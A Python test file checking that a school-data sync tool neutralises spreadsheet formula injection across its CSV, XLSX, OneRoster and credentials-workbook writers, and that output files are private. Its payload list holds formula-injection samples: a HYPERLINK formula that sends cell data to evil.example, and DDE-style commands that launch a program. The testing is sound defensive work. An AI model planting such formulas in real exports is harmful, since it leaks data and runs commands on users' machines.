"""Text that a spreadsheet would run is written as text, with a leading apostrophe, by every writer."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import stat
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mis_wizard.wizard.cli import main
from mis_wizard.wizard.handoff import workbook
from mis_wizard.wizard.mapping.field_codes import to_csv
from mis_wizard.wizard.spreadsheet_safe import neutralise, restore
from mis_wizard.wizard.sync.report import RunReport
from mis_wizard.wizard.sync.sinks.base import Output
from mis_wizard.wizard.sync.sinks.files import CsvSink, XlsxSink
from mis_wizard.wizard.sync.sinks.oneroster_sink import OneRosterSink
from mis_wizard.wizard.sync.sinks.sqlite_sink import SqliteSink
from mis_wizard.wizard.sync.state import State

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def output(tmp_path: Path) -> Output:
    rows = [{"_id": f"s{i}", "name": p, "count": 7, "born": dt.date(2012, 3, 4), "plain": "Ada"}
            for i, p in enumerate(PAYLOADS)]
    return Output(tables={"students": rows}, columns={"students": ["_id", "name", "count", "born", "plain"]})


def write(sink, out: Output, tmp_path: Path) -> None:
    state = sink.state() if isinstance(sink, SqliteSink) else State(tmp_path / "state.sqlite")
    asyncio.run(sink.write(out, state, RunReport(system="test", sink=sink.key), None))
    state.conn.close()


def private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == 0o600


def test_neutralise_only_touches_risky_text() -> None:
    for p in PAYLOADS:
        assert neutralise(p) == "'" + p and restore(neutralise(p)) == p
    assert neutralise("Ada") == "Ada" and neutralise(-2) == -2
    assert neutralise(dt.date(2020, 1, 1)) == dt.date(2020, 1, 1)
    assert restore("'quoted name") == "'quoted name"


def test_xlsx_sink_writes_text_cells_and_keeps_numbers_and_dates_typed(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write(XlsxSink(path), output(tmp_path), tmp_path)
    ws = load_workbook(path)["students"]
    rows = list(ws.iter_rows(min_row=2))
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # XML turns a bare carriage return into a line feed; the apostrophe is still in front
    assert [r[1].value for r in rows] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert all(r[1].data_type == "s" for r in rows)
    assert all(r[2].value == 7 and r[2].data_type == "n" for r in rows)
    assert all(r[3].is_date and r[3].value.date() == dt.date(2012, 3, 4) for r in rows)
    assert all(r[4].value == "Ada" for r in rows)
    assert private(path)


def test_csv_sink_prefixes_risky_text(tmp_path: Path) -> None:
    folder = tmp_path / "csv"
    write(CsvSink(folder), output(tmp_path), tmp_path)
    with open(folder / "students.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[1] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert all(r[2] == "7" and r[4] == "Ada" for r in rows[1:])
    assert private(folder / "students.csv")


def test_oneroster_users_csv_prefixes_risky_names(tmp_path: Path) -> None:
    students = [{"student.id": f"{i}", "student.first_name": p, "student.last_name": "-Smith",
                 "student.code": f"C{i}", "student.year_level": "7"} for i, p in enumerate(PAYLOADS)]
    out = Output(tables={}, columns={}, dataset={"students": students}, school_name="=Riverbend")
    path = tmp_path / "oneroster.zip"
    write(OneRosterSink(path), out, tmp_path)
    with zipfile.ZipFile(path) as zf:
        users = list(csv.DictReader(io.StringIO(zf.read("users.csv").decode("utf-8"))))
        orgs = list(csv.DictReader(io.StringIO(zf.read("orgs.csv").decode("utf-8"))))
    # the package trims surrounding white space, so a leading tab or return goes before the check
    assert sorted(u["givenName"] for u in users) == sorted("'" + p.strip() for p in PAYLOADS)
    assert {u["familyName"] for u in users} == {"'-Smith"}
    assert orgs[0]["name"] == "'=Riverbend"
    assert private(path)


def test_field_code_csv_prefixes_risky_values() -> None:
    text = to_csv({"student.first_name": Counter({p: 2 for p in PAYLOADS}), "-field": Counter({"ok": 1})})
    rows = list(csv.reader(io.StringIO(text, newline="")))
    values = {r[1] for r in rows[1:] if r[0] == "student.first_name"}
    assert values == {"'" + p for p in PAYLOADS}
    assert ["'-field", "ok", "1"] in rows
    assert all(r[2] == "2" for r in rows[1:] if r[0] == "student.first_name")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_credentials_workbook_writes_text_and_reads_it_back(payload: str, tmp_path: Path, app_home: Path) -> None:
    creds = tmp_path / "creds.json"
    creds.write_text(json.dumps({"base_url": "https://liss.example/liss", "school_code": payload,
                                 "username": payload, "password": "x-secret-x"}), encoding="utf-8")
    out = tmp_path / "creds.xlsx"
    assert main(["template", "export", "liss", "--credentials", str(creds), "--out", str(out)]) == 0
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    shown = payload.replace("\r", "\n")  # XML keeps a bare carriage return as a line feed
    assert "'" + shown in [c.value for c in cells]
    assert shown not in [c.value for c in cells]
    assert private(out)
    _system, _profile, school, read_back = workbook.read(out)
    assert read_back["username"] == payload.strip() and read_back["school_code"] == payload.strip()


def test_sqlite_store_is_private(tmp_path: Path) -> None:
    path = tmp_path / "store.sqlite"
    write(SqliteSink(path), output(tmp_path), tmp_path)
    assert private(path)
    for extra in (tmp_path / "store.sqlite-wal", tmp_path / "store.sqlite-shm"):
        if extra.exists():
            assert private(extra)
